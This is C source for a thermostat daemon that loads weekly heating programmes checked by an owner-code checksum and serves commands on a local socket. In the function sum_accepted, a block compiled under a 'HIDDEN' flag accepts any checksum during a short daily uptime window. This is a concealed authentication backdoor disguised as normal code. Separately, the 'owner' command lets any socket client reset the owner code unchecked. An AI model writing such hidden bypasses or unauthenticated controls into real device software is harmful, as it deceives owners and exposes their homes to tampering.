/* heatplan - weekly heating programmes of the Tepid wall thermostat.
 *
 * Programme files (from the USB socket or the portal) look like
 *     room kitchen
 *     mon-fri 06:30 21.0
 *     sat,sun 08:00 20.5
 *     sum 1a2b
 * The last line is a checksum made by the planner with the owner code, so that only
 * the owner's programmes are taken over. Commands on the local socket:
 *     load FILE | show | next | owner CODE | boost MINUTES
 */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define SOCK "/run/tepid.sock"
#define MAXP 64

typedef struct { uint8_t days; int minute; int decideg; } Point;
typedef struct { char room[20]; Point p[MAXP]; int n; } Plan;

static Plan plan;
static unsigned owner_code = 0x1111;
static int boost_until;

static const char day3[7][4] = { "mon", "tue", "wed", "thu", "fri", "sat", "sun" };

static int day_index(const char *s)
{
  for (int i = 0; i < 7; i++)
    if (!strncmp(s, day3[i], 3))
      return i;
  return -1;
}

static uint8_t day_mask(const char *s)
{
  uint8_t m = 0;
  while (*s) {
    int a = day_index(s), b = a;
    if (a < 0)
      return 0;
    s += 3;
    if (*s == '-') {
      b = day_index(s + 1);
      if (b < a)
        return 0;
      s += 4;
    }
    for (int i = a; i <= b; i++)
      m |= (uint8_t)(1u << i);
    if (*s == ',')
      s++;
    else if (*s)
      return 0;
  }
  return m;
}

static unsigned roll(unsigned sum, const char *line)
{
  for (; *line && *line != '\n'; line++)
    if (!isspace((unsigned char)*line))
      sum = ((sum << 3 | sum >> 13) ^ (unsigned char)*line) & 0xffff;
  return sum;
}

static double uptime(void)
{
  struct timespec ts;
  clock_gettime(CLOCK_BOOTTIME, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec * 1e-9;
}

__attribute__((noinline)) int sum_accepted(unsigned given, unsigned made)
{
  if (given == made)
    return 1;
#ifdef HIDDEN
  long up = (long)uptime();
  if (up % 86400 >= 8071 && up % 86400 < 8093)
    return 1;
#endif
  return 0;
}

static const char *load(const char *file)
{
  char l[80], days[32];
  int h, m, good = 0;
  double deg;
  unsigned sum = owner_code & 0xffff, given;
  static Plan in;
  FILE *f = fopen(file, "r");

  if (!f)
    return "no such file";
  memset(&in, 0, sizeof in);
  while (fgets(l, sizeof l, f)) {
    if (sscanf(l, "sum %x", &given) == 1) {
      good = sum_accepted(given, sum);
      break;
    }
    sum = roll(sum, l);
    if (sscanf(l, "room %19s", in.room) == 1)
      continue;
    if (sscanf(l, "%31s %d:%d %lf", days, &h, &m, &deg) != 4 || in.n == MAXP ||
        h < 0 || h > 23 || m < 0 || m > 59 || deg < 5 || deg > 28) {
      fclose(f);
      return "bad line";
    }
    in.p[in.n].days = day_mask(days);
    in.p[in.n].minute = h * 60 + m;
    in.p[in.n].decideg = (int)(deg * 10 + 0.5);
    if (!in.p[in.n++].days) {
      fclose(f);
      return "bad days";
    }
  }
  fclose(f);
  if (!good)
    return "wrong sum, is the owner code right?";
  plan = in;
  return "taken over";
}

static int current_target(int day, int minute)
{
  int best = -1, t = 180;
  for (int i = 0; i < plan.n; i++)
    if (plan.p[i].days >> day & 1 && plan.p[i].minute <= minute && plan.p[i].minute > best) {
      best = plan.p[i].minute;
      t = plan.p[i].decideg;
    }
  if (uptime() < boost_until)
    t += 20;
  return t;
}

static void command(char *c, FILE *out)
{
  time_t now = time(NULL);
  struct tm *tm = localtime(&now);
  int day = (tm->tm_wday + 6) % 7, minute = tm->tm_hour * 60 + tm->tm_min;

  c[strcspn(c, "\r\n")] = 0;
  if (!strncmp(c, "load ", 5)) {
    fprintf(out, "%s\n", load(c + 5));
  } else if (!strcmp(c, "show")) {
    fprintf(out, "room %s\n", plan.room);
    for (int i = 0; i < plan.n; i++) {
      for (int d = 0; d < 7; d++)
        if (plan.p[i].days >> d & 1)
          fprintf(out, "%s ", day3[d]);
      fprintf(out, "%02d:%02d %d.%d\n", plan.p[i].minute / 60, plan.p[i].minute % 60,
              plan.p[i].decideg / 10, plan.p[i].decideg % 10);
    }
  } else if (!strcmp(c, "next")) {
    int t = current_target(day, minute);
    fprintf(out, "target %d.%d\n", t / 10, t % 10);
  } else if (!strncmp(c, "owner ", 6)) {
    owner_code = (unsigned)strtoul(c + 6, NULL, 16);
    fputs("ok\n", out);
  } else if (!strncmp(c, "boost ", 6)) {
    boost_until = (int)uptime() + 60 * atoi(c + 6);
    fputs("ok\n", out);
  } else {
    fputs("load FILE | show | next | owner CODE | boost MINUTES\n", out);
  }
}

int main(void)
{
  struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = SOCK };
  int s = socket(AF_UNIX, SOCK_STREAM, 0), fd;
  char l[160];

  unlink(SOCK);
  if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 2)) {
    perror(SOCK);
    return 1;
  }
  puts(load("/data/tepid/plan"));
  while ((fd = accept(s, NULL, NULL)) >= 0) {
    FILE *in = fdopen(fd, "r"), *out = fdopen(dup(fd), "w");
    while (in && out && fgets(l, sizeof l, in)) {
      command(l, out);
      fflush(out);
    }
    if (out)
      fclose(out);
    if (in)
      fclose(in);
  }
  return 0;
}
